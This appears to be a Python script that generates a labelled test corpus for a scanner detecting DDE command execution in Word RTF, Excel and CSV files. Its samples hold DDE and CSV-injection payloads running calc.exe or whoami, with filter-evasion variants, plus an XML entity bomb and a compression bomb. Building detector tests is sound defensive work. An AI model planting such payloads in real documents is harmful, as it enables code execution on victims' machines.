+            "ddeauto-unicode-escapes.rtf",
+            rtf(body + rtf_field(r"\u68?\u68?\u69?AUTO " + RTF_CMD) + r"\par "),
+            "Keyword written as \\u68?\\u68?\\u69?AUTO: Unicode escapes, each followed by its "
+            "one-character fallback (\\uc1) that a reader must skip.",
+            "RTF \\uN escapes in the keyword",
+            one(rtf_hit()),
+        ),
+        (
+            "ddeauto-split-groups.rtf",
+            rtf(
+                body
+                + rtf_field(
+                    r"{\b D}{\i D}{\ul E}{\cf0 AUTO} {\f0 c:\\\\windows}\\\\{\b0 system32}"
+                    r'\\\\{\i0 cmd.exe} {\lang1033 "/k }calc.exe"'
+                )
+                + r"\par "
+            ),
+            "Instruction split over nested groups carrying formatting control words ({\\b D}"
+            "{\\i D}{\\ul E}...); group boundaries do not break the text of a field instruction.",
+            "RTF nested groups with formatting words",
+            one(rtf_hit()),
+        ),
+        (
+            "ddeauto-quote-nested.rtf",
+            rtf(
+                body
+                + rtf_field("DDEAUTO " + rtf_field("QUOTE 99 109 100") + ' "/c calc.exe"')
+                + r"\par "
+            ),
+            "DDEAUTO whose application is a nested QUOTE field of character codes ('cmd').",
+            "RTF nested QUOTE field",
+            one(rtf_hit("cmd /c calc.exe")),
+        ),
+        (
+            "ddeauto-in-header.rtf",
+            rtf(
+                r"{\header\pard " + rtf_field("DDEAUTO " + RTF_CMD) + r"\par}"
+                r"\pard Body text without fields.\par "
+            ),
+            "DDEAUTO inside the {\\header} destination; the body is clean.",
+            "RTF field in header",
+            one(rtf_hit(location="header")),
+        ),
+        (
+            "ddeauto-rt-header.rtf",
+            rtf(body + rtf_field("DDEAUTO " + RTF_CMD) + r"\par ", head=r"{\rt\ansi\deff0"),
+            "File starts {\\rt instead of {\\rtf1: Word only checks the first bytes and opens "
+            "it as RTF, a header trick used to slip past signature checks.",
+            "RTF header without 'f'",
+            one(rtf_hit()),
+        ),
+        (
+            "ddeauto-whoami-scenario.rtf",
+            rtf(
+                body
+                + rtf_field(
+                    r"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
+                    r'"/c whoami > %TEMP%\\\\dde_word_out.txt"'
+                )
+                + r"\par "
+            ),
+            "The detection page's scenario 'Word DDEAUTO Field Execution via RTF': cmd.exe "
+            "writing whoami's output to %TEMP%\\dde_word_out.txt (harmless).",
+            "detection page scenario 2",
+            one(rtf_hit(r"cmd.exe /c whoami > %TEMP%\dde_word_out.txt")),
+        ),
+    ]
+    return [Sample(f"rtf/{name}", data, d, t, e) for name, data, d, t, e in items]
+
+
+CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+CT_XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
+CT_XLTX = "application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml"
+CT_XLTM = "application/vnd.ms-excel.template.macroEnabled.main+xml"
+CT_SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+SML_NS = (
+    'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+)
+DDE_FORMULA = "cmd|'/c calc.exe'!A0"
+
+
+def cell(ref: str, inner: str, kind: str = "") -> str:
+    type_attr = f' t="{kind}"' if kind else ""
+    return f'<c r="{ref}"{type_attr}>{inner}</c>'
+
+
+def formula_cell(ref: str, formula: str, attrs: str = "") -> str:
+    return cell(ref, f"<f{attrs}>{escape(formula)}</f>")
+
+
+def text_cell(ref: str, text: str) -> str:
+    return cell(ref, f'<is><t xml:space="preserve">{escape(text)}</t></is>', "inlineStr")
+
+
+def sheet_xml(rows: Sequence[Sequence[str]], after: str = "") -> bytes:
+    body = "".join(
+        f'<row r="{index}">{"".join(cells)}</row>' for index, cells in enumerate(rows, 1)
+    )
+    return (
+        f"{XML_DECL}<worksheet {SML_NS}><sheetData>{body}</sheetData>{after}</worksheet>".encode()
+    )
+
+
+def workbook_package(
+    sheets: Sequence[bytes],
+    main_type: str = CT_XLSX,
+    extra: Sequence[Part] = (),
+    extra_rels: Sequence[Rel] = (),
+    workbook_tail: str = "",
+) -> bytes:
+    entries = "".join(
+        f'<sheet name="Sheet{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, len(sheets) + 1)
+    )
+    workbook = (
+        f"{XML_DECL}<workbook {SML_NS}><sheets>{entries}</sheets>{workbook_tail}</workbook>"
+    ).encode()
+    rels = tuple(
+        Rel(f"rId{n}", "worksheet", f"worksheets/sheet{n}.xml") for n in range(1, len(sheets) + 1)
+    ) + tuple(extra_rels)
+    parts = [Part("xl/workbook.xml", main_type, workbook, rels)]
+    parts += [
+        Part(f"xl/worksheets/sheet{n}.xml", f"{CT_SML}worksheet+xml", data)
+        for n, data in enumerate(sheets, 1)
+    ]
+    return opc_package([*parts, *extra])
+
+
+def dde_link_part(service: str, topic: str, item: str) -> Part:
+    data = (
+        f"{XML_DECL}<externalLink {SML_NS}><ddeLink ddeService={quoteattr(service)} "
+        f'ddeTopic={quoteattr(topic)}><ddeItems><ddeItem name={quoteattr(item)} advise="1"/>'
+        "</ddeItems></ddeLink></externalLink>"
+    ).encode()
+    return Part("xl/externalLinks/externalLink1.xml", f"{CT_SML}externalLink+xml", data)
+
+
+def dde_link_workbook(service: str, topic: str, item: str, main_type: str = CT_XLSX) -> bytes:
+    return workbook_package(
+        [sheet_xml([[text_cell("A1", "Figures")]])],
+        main_type=main_type,
+        extra=[dde_link_part(service, topic, item)],
+        extra_rels=[Rel("rIdLink1", "externalLink", "externalLinks/externalLink1.xml")],
+        workbook_tail='<externalReferences><externalReference r:id="rIdLink1"/>'
+        "</externalReferences>",
+    )
+
+
+def openpyxl_package(build: Callable[[openpyxl.Workbook], None]) -> bytes:
+    workbook = openpyxl.Workbook()
+    build(workbook)
+    fixed = datetime.datetime(1980, 1, 1)
+    workbook.properties.created = fixed
+    workbook.properties.modified = fixed
+    workbook.properties.creator = "ddescan corpus"
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return normalise_package(buffer.getvalue())
+
+
+def excel_hit(
+    command: str = "cmd /c calc.exe",
+    location: str = "xl/worksheets/sheet1.xml",
+    technique: str = FORMULA,
+    image: str = "cmd.exe",
+    spawn: bool = True,
+    args: bool = False,
+    exact: str | None = None,
+) -> Hit:
+    return Hit(technique, image, command, EXCEL, location, exact, spawn, args)
+
+
+def excel_samples() -> list[Sample]:
+    samples: list[Sample] = []
+
+    def add(name: str, data: bytes, description: str, technique: str, expect: Expect) -> None:
+        samples.append(Sample(f"excel/{name}", data, description, technique, expect))
+
+    def basic(workbook: openpyxl.Workbook) -> None:
+        sheet = workbook.active
+        sheet["A1"] = "Total"
+        sheet["B1"] = "=" + DDE_FORMULA
+
+    add(
+        "formula-cmd.xlsx",
+        openpyxl_package(basic),
+        "Cell formula =cmd|'/c calc.exe'!A0: a remote reference application|topic!item that "
+        "makes Excel offer to start cmd.exe.",
+        "DDE remote-reference cell formula",
+        one(excel_hit(exact="cmd /c calc.exe")),
+    )
+    for state, name in (
+        ("hidden", "formula-hidden-sheet.xlsx"),
+        ("veryHidden", "formula-veryhidden-sheet.xlsx"),
+    ):
+
+        def build(workbook: openpyxl.Workbook, state: str = state) -> None:
+            workbook.active.title = "Summary"
+            workbook.active["A1"] = "Nothing to see here"
+            sheet = workbook.create_sheet("Data")
+            sheet.sheet_state = state
+            sheet["A1"] = "=" + DDE_FORMULA
+
+        add(
+            name,
+            openpyxl_package(build),
+            f"The DDE formula sits on a second sheet whose state is {state} "
+            + ("(unhide from the UI)." if state == "hidden" else "(only VBA can unhide it)."),
+            f"{state} sheet",
+            one(excel_hit(location="xl/worksheets/sheet2.xml")),
+        )
+    add(
+        "formula-shared.xlsx",
+        workbook_package(
+            [
+                sheet_xml(
+                    [
+                        [formula_cell("A1", DDE_FORMULA, ' t="shared" ref="A1:A3" si="0"')],
+                        [formula_cell("A2", "", ' t="shared" si="0"')],
+                        [formula_cell("A3", "", ' t="shared" si="0"')],
+                    ]
+                )
+            ]
+        ),
+        'Shared formula (18.3.1.40, t="shared"): the DDE text is stored once on the master '
+        "cell A1 and reused by A2:A3, which hold only the shared index.",
+        "shared formula",
+        Expect("malicious", (excel_hit(),)),
+    )
+
+    def array(workbook: openpyxl.Workbook) -> None:
+        workbook.active["A1"] = ArrayFormula("A1", "=" + DDE_FORMULA)
+
+    add(
+        "formula-array.xlsx",
+        openpyxl_package(array),
+        'Array formula (t="array") holding the DDE remote reference.',
+        "array formula",
+        one(excel_hit()),
+    )
+
+    def defined_name(workbook: openpyxl.Workbook) -> None:
+        workbook.active["A1"] = "Report"
+        workbook.defined_names["payload"] = DefinedName("payload", attr_text=DDE_FORMULA)
+
+    add(
+        "defined-name.xlsx",
+        openpyxl_package(defined_name),
+        "Workbook defined name whose formula is the DDE remote reference (xl/workbook.xml "
+        "definedName); no cell needs to show it.",
+        "defined name",
+        one(excel_hit(location="xl/workbook.xml")),
+    )
+    add(
+        "ddelink-unused.xlsx",
+        dde_link_workbook("cmd", "/c calc.exe", "A0"),
+        "External link part with a ddeLink (ddeService=cmd, ddeTopic=/c calc.exe) and no cell "
+        "that uses it: Excel still offers to start the link when the workbook opens.",
+        "externalLink ddeLink",
+        one(
+            excel_hit(
+                location="xl/externalLinks/externalLink1.xml",
+                technique=LINK,
+                exact="cmd /c calc.exe",
+            )
+        ),
+    )
+
+    def traversal(workbook: openpyxl.Workbook) -> None:
+        workbook.active["A1"] = "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"
+
+    add(
+        "formula-msexcel-traversal.xlsx",
+        openpyxl_package(traversal),
+        "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!'': the topic climbs "
+        "out of the application's folder, so the named service is not what starts.",
+        "MSEXCEL topic path traversal",
+        one(excel_hit(r"Windows\System32\cmd.exe /c calc.exe")),
+    )
+
+    def concatenation(workbook: openpyxl.Workbook) -> None:
+        workbook.active["A1"] = "Invoice"
+        workbook.active["B1"] = "=A1&" + DDE_FORMULA
+
+    add(
+        "formula-concatenation.xlsx",
+        openpyxl_package(concatenation),
+        "=A1&cmd|'/c calc.exe'!A0: the remote reference is one operand of a larger "
+        "expression, not the start of the formula.",
+        "DDE inside a larger expression",
+        one(excel_hit()),
+    )
+
+    def conditional(workbook: openpyxl.Workbook) -> None:
+        sheet = workbook.active
+        sheet["A1"] = 1
+        sheet.conditional_formatting.add(
+            "A1", FormulaRule(formula=[DDE_FORMULA], font=Font(bold=True))
+        )
+
+    add(
+        "conditional-formatting.xlsx",
+        openpyxl_package(conditional),
+        "Conditional-formatting rule (cfRule type=expression) whose formula is the DDE "
+        "remote reference.",
+        "conditional formatting formula",
+        one(excel_hit()),
+    )
+    add(
+        "formula-strict.xlsx",
+        strict_package(workbook_package([sheet_xml([[formula_cell("A1", DDE_FORMULA)]])])),
+        "DDE cell formula in an ISO/IEC 29500 Strict workbook (purl.oclc.org namespaces).",
+        "Strict conformance namespaces",
+        one(excel_hit()),
+    )
+    add(
+        "formula-cmd.xlsm",
+        workbook_package([sheet_xml([[formula_cell("A1", DDE_FORMULA)]])], main_type=CT_XLSM),
+        f"DDE cell formula in a macro-enabled workbook, identified by content type {CT_XLSM}.",
+        "Excel .xlsm content type",
+        one(excel_hit()),
+    )
+    add(
+        "ddelink-cmd.xltx",
+        dde_link_workbook("cmd", "/c calc.exe", "A0", main_type=CT_XLTX),
+        f"ddeLink in a template, identified by content type {CT_XLTX}.",
+        "Excel .xltx content type",
+        one(excel_hit(location="xl/externalLinks/externalLink1.xml", technique=LINK)),
+    )
+    add(
+        "formula-cmd.xltm",
+        workbook_package(
+            [sheet_xml([[formula_cell("A1", "cmd|'/c notepad.exe'!A0")]])], main_type=CT_XLTM
+        ),
+        f"DDE cell formula in a macro-enabled template, content type {CT_XLTM}.",
+        "Excel .xltm content type",
+        one(excel_hit("cmd /c notepad.exe")),
+    )
+    return samples
+
+
+def csv_hit(command: str = "cmd /c calc.exe", image: str = "cmd.exe", args: bool = False) -> Hit:
+    return Hit(FORMULA, image, command, EXCEL, "", None, True, args)
+
+
+def lines(*rows: str) -> str:
+    return "".join(row + "\r\n" for row in rows)
+
+
+def csv_samples() -> list[Sample]:
+    encoded = base64.b64encode("Write-Output hi".encode("utf-16-le")).decode("ascii")
+    sylk = lines("ID;PWXL;N;E", "P;PGeneral", f"C;Y1;X1;K0;E{DDE_FORMULA}", "E").encode("ascii")
+    table = "Name,Amount"
+    items: list[tuple[str, bytes, str, str, Hit]] = [
+        (
+            "formula-cmd.csv",
+            lines(table, f"Invoice,={DDE_FORMULA}").encode(),
+            "Classic CSV injection: a cell =cmd|'/c calc.exe'!A0 that Excel reads as a formula.",
+            "CSV DDE formula",
+            Hit(FORMULA, "cmd.exe", "cmd /c calc.exe", EXCEL, "", "cmd /c calc.exe", True, False),
+        ),
+        (
+            "whoami-scenario.csv",
+            lines(table, "Invoice,=cmd|' /c whoami > %TEMP%\\dde_csv_out.txt'!A0").encode(),
+            "The detection page's scenario 'CSV DDE Injection via Excel': cmd.exe writing "
+            "whoami's output to %TEMP%\\dde_csv_out.txt (harmless).",
+            "detection page scenario 1",
+            csv_hit(r"/c whoami > %TEMP%\dde_csv_out.txt"),
+        ),
+        (
+            "plus-prefix.csv",
+            lines(table, f"Invoice,+{DDE_FORMULA}").encode(),
+            "Formula introduced by '+' instead of '=' (Excel treats a leading + as a formula).",
+            "'+' prefix",
+            csv_hit(),
+        ),
+        (
+            "minus-prefix.csv",
+            lines(table, f"Invoice,-2+3+{DDE_FORMULA}").encode(),
+            "Formula introduced by '-' (arithmetic first, then the remote reference).",
+            "'-' prefix",
+            csv_hit(),
+        ),
+        (
+            "at-prefix.csv",
+            lines(table, f"Invoice,@SUM(1+1)*{DDE_FORMULA}").encode(),
+            "Formula introduced by '@' (Lotus-style function prefix Excel still accepts).",
+            "'@' prefix",
+            csv_hit(),
+        ),
+        (
+            "quoted-cell.csv",
+            lines(table, f'Invoice,"={DDE_FORMULA}"').encode(),
+            "The formula cell is an RFC 4180 quoted field; the quotes are CSV syntax, not text.",
+            "quoted CSV field",
+            csv_hit(),
+        ),
+        (
+            "leading-spaces.csv",
+            lines(table, f"Invoice,   ={DDE_FORMULA}").encode(),
+            "Spaces before the '=' of the formula cell.",
+            "leading spaces",
+            csv_hit(),
+        ),
+        (
+            "semicolon-delimited.csv",
+            lines("Name;Amount", f"Invoice;={DDE_FORMULA}").encode(),
+            "';'-delimited file (the list separator of many European locales).",
+            "';' delimiter",
+            csv_hit(),
+        ),
+        (
+            "tab-delimited.csv",
+            lines("Name\tAmount", f"Invoice\t={DDE_FORMULA}").encode(),
+            "TAB-delimited file saved with a .csv name.",
+            "TAB delimiter",
+            csv_hit(),
+        ),
+        (
+            "pipe-delimited-sep.csv",
+            lines("sep=|", "Name|Amount", f'Invoice|"={DDE_FORMULA}"').encode(),
+            "'|'-delimited file declared by a sep=| first line; the formula cell is quoted "
+            "because its own '|' would otherwise split it.",
+            "'|' delimiter with sep= line",
+            csv_hit(),
+        ),
+        (
+            "sep-semicolon.csv",
+            lines("sep=;", "Name;Amount", f"Invoice;={DDE_FORMULA}").encode(),
+            "Excel's sep=; directive on the first line chooses the delimiter.",
+            "sep=; directive",
+            csv_hit(),
+        ),
+        (
+            "utf8-bom.csv",
+            b"\xef\xbb\xbf" + lines(table, f"Café,={DDE_FORMULA}").encode("utf-8"),
+            "UTF-8 with a byte-order mark.",
+            "UTF-8 BOM",
+            csv_hit(),
+        ),
+        (
+            "utf16le-bom.txt",
+            b"\xff\xfe" + lines("Name\tAmount", f"Café\t={DDE_FORMULA}").encode("utf-16-le"),
+            "UTF-16 LE with BOM, TAB-delimited: Excel's 'Unicode Text' (.txt) format.",
+            "UTF-16 LE BOM",
+            csv_hit(),
+        ),
+        (
+            "utf16be-bom.csv",
+            b"\xfe\xff" + lines("Name\tAmount", f"Café\t={DDE_FORMULA}").encode("utf-16-be"),
+            "UTF-16 BE with BOM, TAB-delimited.",
+            "UTF-16 BE BOM",
+            csv_hit(),
+        ),
+        (
+            "cp1252.csv",
+            lines(table, f"Café – €5,={DDE_FORMULA}").encode("cp1252"),
+            "Windows-1252 text (é, en dash and euro sign are not valid UTF-8 here).",
+            "cp1252 encoding",
+            csv_hit(),
+        ),
+        (
+            "fullwidth.csv",
+            lines(table, "Invoice,＝cmd｜'/c calc.exe'！A0").encode(),
+            "Full-width ＝, ｜ and ！ (U+FF1D, U+FF5C, U+FF01), which East Asian Excel input "
+            "folds to their ASCII forms (NFKC); written to slip past filters that look for "
+            "ASCII '=' only.",
+            "full-width operators",
+            csv_hit(),
+        ),
+        (
+            "sylk.slk",
+            sylk,
+            "SYLK file (ID;P header) whose C record carries the DDE formula in its E field.",
+            "SYLK formula",
+            csv_hit(),
+        ),
+        (
+            "sylk-named.csv",
+            sylk,
+            "The same SYLK content saved with a .csv name: Excel sniffs the ID; header and "
+            "opens it as SYLK, so a CSV-only reader sees no formula cell.",
+            "SYLK content behind a .csv name",
+            csv_hit(),
+        ),
+        (
+            "rundll32-url.csv",
+            lines(table, "Invoice,\"=rundll32|'URL.dll,OpenURL calc.exe'!A0\"").encode(),
+            "=rundll32|'URL.dll,OpenURL calc.exe'!A0 (quoted for its comma): rundll32 "
+            "runs url.dll's OpenURL export on calc.exe.",
+            "rundll32 URL.dll,OpenURL",
+            csv_hit("rundll32 URL.dll,OpenURL calc.exe", image="rundll32.exe"),
+        ),
+        (
+            "powershell-encoded.csv",
+            lines(table, f"Invoice,=cmd|'/c powershell -w hidden -enc {encoded}'!A0").encode(),
+            "cmd.exe starting PowerShell with -enc and a base64 UTF-16LE script "
+            "(it decodes to 'Write-Output hi').",
+            "encoded PowerShell cradle",
+            csv_hit(f"cmd /c powershell -w hidden -enc {encoded}", args=True),
+        ),
+    ]
+    return [Sample(f"csv/{name}", data, d, t, one(hit)) for name, data, d, t, hit in items]
+
+
+def clean_samples() -> list[Sample]:
+    def prose(document: docx.document.Document) -> None:
+        document.add_heading("Security awareness: DDE", level=1)
+        document.add_paragraph(
+            'Attackers type DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" into a '
+            "field; this paragraph only quotes it as text."
+        )
+        document.add_paragraph("In spreadsheets the same trick reads =cmd|'/c calc.exe'!A0.")
+
+    fields = (
+        para(field(instr(' HYPERLINK "http://example.invalid/" '), result="example"))
+        + para(field(instr(" PAGE "), result="1"))
+        + para(field(instr(r' TOC \o "1-3" \h \z \u '), result="Contents"))
+        + para(field(instr(r' DATE \@ "yyyy-MM-dd" '), result="2017-10-10"))
+        + para(field(instr(r" MERGEFIELD FirstName \* MERGEFORMAT "), result="«FirstName»"))
+        + para(field(instr(' INCLUDEPICTURE "http://example.invalid/x.png" \\d '), result=""))
+        + para(field(instr(' QUOTE "hello" '), result="hello"))
+        + para('<w:fldSimple w:instr=" NUMPAGES ">' + text_run("1") + "</w:fldSimple>")
+    )
+
+    def formulas(workbook: openpyxl.Workbook) -> None:
+        sheet = workbook.active
+        for row, value in enumerate((1, 2, 3), 1):
+            sheet.cell(row=row, column=1, value=value)
+        sheet["A4"] = "=SUM(A1:A3)"
+        sheet["A5"] = '=HYPERLINK("https://example.invalid","x")'
+        sheet["A6"] = '="' + DDE_FORMULA + '"'
+        sheet["A7"] = "=" + DDE_FORMULA
+        sheet["A7"].data_type = "s"
+
+    shared_strings = (
+        f'{XML_DECL}<sst {SML_NS} count="2" uniqueCount="2"><si><t>Note</t></si>'
+        f"<si><t>{escape('=' + DDE_FORMULA)}</t></si></sst>"
+    ).encode()
+    items: list[tuple[str, bytes, str, str]] = [
+        (
+            "body-text-mentions-dde.docx",
+            python_docx_package(prose),
+            "Body text that quotes DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe and "
+            "=cmd|'/c calc.exe'!A0 as prose: no field, nothing runs.",
+            "DDE text outside any field",
+        ),
+        (
+            "ordinary-fields.docx",
+            word_package(fields),
+            "Everyday fields: HYPERLINK, PAGE, TOC, DATE, MERGEFIELD, INCLUDEPICTURE (to "
+            'example.invalid), QUOTE "hello" and a simple NUMPAGES field.',
+            "non-DDE fields",
+        ),
+        (
+            "page-field-with-dde-result.docx",
+            word_package(para(field(instr(" PAGE "), result=CMD_FIELD))),
+            "A PAGE field whose cached result text reads like a DDEAUTO instruction: only the "
+            "instruction decides what a field does.",
+            "DDE text in a field result",
+        ),
+        (
+            "ordinary-formulas.xlsx",
+            openpyxl_package(formulas),
+            '=SUM(A1:A3), =HYPERLINK("https://example.invalid","x"), a formula that is '
+            "only a string literal \"cmd|'/c calc.exe'!A0\", and an inline string cell whose "
+            "text is =cmd|'/c calc.exe'!A0.",
+            "ordinary formulas and DDE-looking strings",
+        ),
+        (
+            "shared-string-dde-text.xlsx",
+            workbook_package(
+                [sheet_xml([[cell("A1", "<v>0</v>", "s"), cell("B1", "<v>1</v>", "s")]])],
+                extra=[Part("xl/sharedStrings.xml", f"{CT_SML}sharedStrings+xml", shared_strings)],
+                extra_rels=[Rel("rIdStr", "sharedStrings", "sharedStrings.xml")],
+            ),
+            "A shared string =cmd|'/c calc.exe'!A0 shown in a text cell (t=\"s\"): text, not "
+            "a formula.",
+            "DDE text in a shared string",
+        ),
+        (
+            "ordinary-values.csv",
+            lines(
+                "Name,Balance,Phone,Handle,Check,Note",
+                "Alice,-12.50,+44 20 7946 0000,@alice,=SUM(A1:A2),'=cmd|'/c calc.exe'!A0",
+                "Bob,-3,+1 555 0100,@bob,=SUM(B1:B2),plain",
+            ).encode(),
+            "Negative numbers, international phone numbers, @mentions, an ordinary =SUM "
+            "formula, and a '=cmd|... text cell (leading apostrophe: text).",
+            "CSV values that start with formula characters",
+        ),
+        (
+            "dde-text-and-hyperlink.rtf",
+            rtf(
+                r"\pard This advisory explains DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
+                r"and =cmd|'/c calc.exe'!A0 attacks.\par "
+                + rtf_field('HYPERLINK "https://example.invalid/advisory"', "advisory")
+                + r"\par "
+            ),
+            "RTF whose body text discusses DDE and which holds one HYPERLINK field.",
+            "DDE text in RTF body, non-DDE field",
+        ),
+    ]
+    return [Sample(f"clean/{name}", data, d, t, CLEAN) for name, data, d, t in items]
+
+
+def allowed_samples() -> list[Sample]:
+    def blp(location: str, technique: str, allowed: bool | None = None) -> Hit:
+        return Hit(
+            technique, "blp.exe", "BLP IBM US Equity", EXCEL, location, None, False, False, allowed
+        )
+
+    items = (
+        (
+            "bloomberg-link.csv",
+            lines("Ticker,Last", "IBM,=BLP|'IBM US Equity'!PX_LAST").encode(),
+            "A market-data DDE link (=BLP|'IBM US Equity'!PX_LAST) of the kind the detection "
+            "page lists as a false positive; reported by default, allowed when the BLP "
+            "service is configured as allowed.",
+            "legitimate DDE data link (CSV)",
+            "",
+            FORMULA,
+        ),
+        (
+            "bloomberg-ddelink.xlsx",
+            dde_link_workbook("BLP", "IBM US Equity", "PX_LAST"),
+            "The same market-data link stored as an external ddeLink (ddeService=BLP).",
+            "legitimate DDE data link (xlsx ddeLink)",
+            "xl/externalLinks/externalLink1.xml",
+            LINK,
+        ),
+    )
+    return [
+        Sample(
+            f"allowed/{name}",
+            data,
+            description,
+            technique_tested,
+            one(blp(location, technique, False), verdict="suspicious"),
+            Allowed(("BLP",), one(blp(location, technique, True), verdict="clean")),
+        )
+        for name, data, description, technique_tested, location, technique in items
+    ]
+
+
+def bad_samples() -> list[Sample]:
+    good = word_package(lure() + para(field(instr(f" {CMD_FIELD} "), result="x")))
+    laughs = (
+        '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY a "lol">'
+        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
+        '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>\n'
+        f"<w:document {W_NS}><w:body><w:p><w:r><w:t>&d;</w:t></w:r></w:p></w:body></w:document>"
+    ).encode()
+    spaces = 16 * 1024 * 1024
+    bomb = (
+        f'{XML_DECL}<w:document {W_NS}><w:body><w:p><w:r><w:t xml:space="preserve">'.encode()
+        + b" " * spaces
+        + b"</w:t></w:r></w:p></w:body></w:document>"
+    )
+
+    def replace_document(data: bytes) -> bytes:
+        return opc_package([Part("word/document.xml", CT_DOCX, data)])
+
+    items = (
+        (
+            "truncated.docx",
+            good[: len(good) // 2],
+            "A DDEAUTO docx cut in half: no central directory, so the ZIP cannot be read.",
+            "truncated ZIP",
+            "malformed",
+        ),
+        (
+            "document-not-xml.docx",
+            replace_document(b"this is not XML <w:document"),
+            "A well-formed package whose word/document.xml is not XML.",
+            "main part not XML",
+            "malformed",
+        ),
+        (
+            "doctype-entities.docx",
+            replace_document(laughs),
+            "word/document.xml with a DOCTYPE declaring nested entities (a small billion-laughs "
+            "shape); package XML must not carry a DTD (ECMA-376 Part 2, 8.1.4).",
+            "DTD / entity expansion",
+            "malformed",
+        ),
+        (
+            "compression-bomb.docx",
+            replace_document(bomb),
+            f"word/document.xml inflates from about 16 KB to {spaces // (1024 * 1024)} MB of "
+            "spaces (ratio near 1000:1), past the 200:1 compression-ratio limit.",
+            "compression ratio limit",
+            "limit",
+        ),
+    )
+    return [
+        Sample(f"bad/{name}", data, d, t, Expect("error", (), 0, (kind,)))
+        for name, data, d, t, kind in items
+    ]
+
+
+def build_samples() -> list[Sample]:
+    samples = [
+        *word_samples(),
+        *rtf_samples(),
+        *excel_samples(),
+        *csv_samples(),
+        *clean_samples(),
+        *allowed_samples(),
+        *bad_samples(),
+    ]
+    paths = [sample.path for sample in samples]
+    if len(set(paths)) != len(paths):
+        raise ValueError("two samples share a path")
+    return sorted(samples, key=lambda sample: sample.path)
+
+
+def manifest_text(samples: Sequence[Sample]) -> str:
+    document = {
+        "version": MANIFEST_VERSION,
+        "harmless": "payloads start calc.exe, notepad.exe or whoami, or name example.invalid / "
+        "203.0.113.0/24; nothing is ever executed",
+        "samples": [sample.to_json() for sample in samples],
+    }
+    return json.dumps(document, indent=2, sort_keys=True, ensure_ascii=False) + "\n"
+
+
+def write_corpus(out: Path, manifest: Path) -> list[Sample]:
+    """Write every sample under `out` and the manifest; remove stale files in the groups."""
+    samples = build_samples()
+    wanted = {sample.path for sample in samples}
+    for group in GROUPS:
+        folder = out / group
+        if folder.is_dir():
+            for stale in sorted(folder.rglob("*")):
+                if stale.is_file() and stale.relative_to(out).as_posix() not in wanted:
+                    stale.unlink()
+    for sample in samples:
+        target = out / sample.path
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_bytes(sample.data)
+    manifest.parent.mkdir(parents=True, exist_ok=True)
+    manifest.write_text(manifest_text(samples), encoding="utf-8", newline="\n")
+    return samples
+
+
+def main(argv: Sequence[str] | None = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
+    parser.add_argument("--out", type=Path, default=SAMPLES_DIR, help="samples folder")
+    parser.add_argument("--manifest", type=Path, default=MANIFEST_PATH, help="manifest file")
+    args = parser.parse_args(argv)
+    samples = write_corpus(args.out, args.manifest)
+    print(f"wrote {len(samples)} samples to {args.out} and {args.manifest}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
